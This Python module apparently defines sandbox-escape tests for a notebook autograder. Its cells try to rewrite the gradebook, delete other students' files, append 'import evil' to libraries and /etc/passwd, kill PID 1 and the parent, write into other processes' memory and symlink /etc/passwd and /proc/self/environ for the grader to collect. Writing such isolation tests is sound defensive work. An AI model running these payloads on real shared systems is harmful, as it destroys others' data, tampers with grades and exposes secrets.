"""Write where others read: the gradebook, neighbors, libraries, the next student's process."""

from attacks import Attack, in_cell, in_right_call

ATTACKS: list[Attack] = [
    in_cell(
        "gradebook",
        "Give every student a manual score, with SQL.",
        """
        import sqlite3

        def edit():
            with sqlite3.connect("@COURSE@/gradebook.db") as base:
                base.execute("update grade set manual_score = 90, needs_manual_grade = 0")
        attempt("edit the gradebook", edit)
        """,
    ),
    in_cell(
        "neighbors",
        "Overwrite and remove other students' files.",
        """
        import shutil

        for folder in ("submitted", "autograded", "feedback", "solutions"):
            path = f"@COURSE@/{folder}/@NEIGHBOR@"
            attempt("remove", lambda: shutil.rmtree(path))
            if not path.startswith("/tmp/"):  # a /tmp of its own hides what lies there
                attempt("write", lambda: os.makedirs(path + "/x"))
        """,
    ),
    in_cell(
        "store",
        "Write a result with full points, and a secret, into the grader's store.",
        """
        if not "@COURSE@".startswith("/tmp/"):  # a /tmp of its own hides what lies there
            attempt("make the store", lambda: os.makedirs("@COURSE@/.cs_grader/results"))
            attempt("write a result", lambda: open("@COURSE@/.cs_grader/x.json", "w").write("{}"))
        """,
    ),
    in_cell(
        "libraries",
        "Change NumPy, IPython, the grader and the system on disk, for whoever comes next.",
        """
        import IPython, site

        agent = [getattr(m, "__file__", None) for n, m in sys.modules.items() if "inside" in n]
        places = [np.__file__, IPython.__file__, os.__file__, sys.executable, "/etc/passwd",
                  "/usr/bin/env", "@REPO@/cs_core/__init__.py", "@REPO@/cs_grader/grading/engine.py",
                  *site.getsitepackages(), *filter(None, agent)]
        for place in places:
            if os.path.isdir(place):
                place += "/evil.pth"
            attempt("append to " + place, lambda: open(place, "a").write("\\nimport evil\\n"))
            attempt("chmod " + place, lambda: os.chmod(place, 0o777))
            attempt("replace " + place, lambda: os.rename("/tmp/x", place) or os.remove(place))
        """,
    ),
    in_cell(
        "traces on disk",
        "Leave files for the next student wherever one can write.",
        """
        for root in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/", os.getcwd(), "/dev", "/dev/mqueue",
                     os.path.expanduser("~")):
            with contextlib.suppress(OSError):
                path = os.path.join(root, "numpy.py")
                with open(path, "w") as file:
                    file.write("print('left by another student')")
                print("left", path)
        for name in (".ipython/profile_default/startup/x.py", ".config/matplotlib/matplotlibrc"):
            with contextlib.suppress(OSError):
                path = os.path.join(os.path.expanduser("~"), name)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "w").write("print('left by another student')")
        """,
    ),
    in_cell(
        "shared objects",
        "Leave System V memory, a message queue, a key and an abstract socket for the next student.",
        """
        import ctypes, socket

        libc = ctypes.CDLL(None, use_errno=True)
        print(libc.shmget(4242, 4096, 0o1666), libc.msgget(4242, 0o1666),
              libc.semget(4242, 1, 0o1666))
        for ring in (-3, -4, -5):  # session, user, user session
            print("key", libc.syscall(248, b"user", b"left", b"canary", 6, ring))
        left = socket.socket(socket.AF_UNIX)
        left.bind("\\0left-by-another-student")
        left.listen()
        """,
    ),
    in_cell(
        "agent patched",
        "Change the code that serves the next student: every function of the agent.",
        """
        import gc, types

        def evil(*args, **kwargs):
            return {"value": None, "steps": 0}

        for name, module in list(sys.modules.items()):
            if name.partition(".")[0] in ("inside", "cs_grader", "msgpack"):
                for key, value in list(vars(module).items()):
                    if isinstance(value, types.FunctionType) and name != "inside.channel":
                        with contextlib.suppress(Exception):
                            value.__code__ = value.__code__.replace(co_name="evil")
                            value.__defaults__ = value.__defaults__
                            value.__evil__ = "left by another student"
        os.fork_original, os.fork = os.fork, lambda: 0
        import builtins
        builtins.left_by_another_student = True
        """,
    ),
    in_cell(
        "fork server killed",
        "Kill, stop and trace whatever serves the next student.",
        """
        import signal

        if contained("pid"):
            for pid in {os.getppid(), 1, 2, 3} - {os.getpid(), 0}:
                for number in (signal.SIGSTOP, signal.SIGKILL):
                    attempt(f"signal {number} to {pid}", lambda: os.kill(pid, number))
            attempt("operator", lambda: os.kill(int("@OPERATOR@"), 0))
        """,
    ),
    in_cell(
        "process group",
        "Signal the process group, to which the fork server may belong: namespaces do not hide it.",
        """
        import signal

        if contained("pid"):
            for number in (signal.SIGHUP, signal.SIGUSR1, signal.SIGKILL, signal.SIGSTOP):
                signal.signal(number, signal.SIG_IGN) if number < 9 else None
                with contextlib.suppress(OSError):
                    os.kill(0, number)
            print(os.getpgid(0), os.getsid(0))
            if os.getpgid(0) == 0 or os.getsid(0) == 0:
                print("attack worked: the process group is that of a process outside")
        """,
    ),
    in_cell(
        "modules for others",
        "Put modules where the fork server looks first, for libraries that it loads when asked.",
        """
        for root in sys.path + ["/grading/course", "/grading/site"]:
            for name in ("matplotlib", "ipywidgets", "cs_core/datasets"):
                path = os.path.join(root, name)
                if not root.startswith("/tmp"):
                    attempt("make " + path, lambda: os.makedirs(path))
                    attempt("write " + path, lambda: open(path + "/left.py", "w").close())
        """,
    ),
    in_cell(
        "fork server's memory",
        "Write into the memory of the parent and of the first process.",
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        data = ctypes.create_string_buffer(b"x" * 8)

        class Piece(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

        def write(pid):
            address = id(None)
            here = Piece(ctypes.addressof(data), 8)
            there = Piece(address, 8)
            done = libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            if done != 8:
                raise OSError(ctypes.get_errno(), "process_vm_writev")
        for pid in {1, 2, os.getppid(), int("@OPERATOR@")} - {os.getpid(), 0}:
            attempt(f"write into {pid}", lambda: write(pid))
            attempt(f"open the memory of {pid}", lambda: open(f"/proc/{pid}/mem", "r+b"))
        """,
    ),
    in_cell(
        "singletons",
        "Change small integers, types and constants in memory, for all who share it.",
        """
        import ctypes, gc

        gc.get_referents(float.__dict__)[0]["left"] = "by another student"
        np.pi, np.e = 3.0, 2.0
        np.seterr(all="raise")
        np.random.seed(0)
        sys.setswitchinterval(100)
        sys.path[:] = []
        os.environ["LEFT"] = "by another student"
        """,
    ),
    in_right_call(
        "test data changed",
        "Change the tests' arguments through every alias after the answer is given.",
        """
        KEPT.append(scores)
        for old in KEPT[:-1]:
            with contextlib.suppress(ValueError):
                pass
        """,
        before="KEPT = []",
    ),
    in_cell(
        "links out",
        "Leave links that lead out, where the grader may pick files up.",
        """
        for i, target in enumerate(("@COURSE@/gradebook.db", "/etc/passwd", "/proc/self/environ")):
            for name in (f"out{i}.png", f"a1_loss_functions{i}.ipynb"):
                with contextlib.suppress(OSError):
                    os.symlink(target, name)
        """,
    ),
]
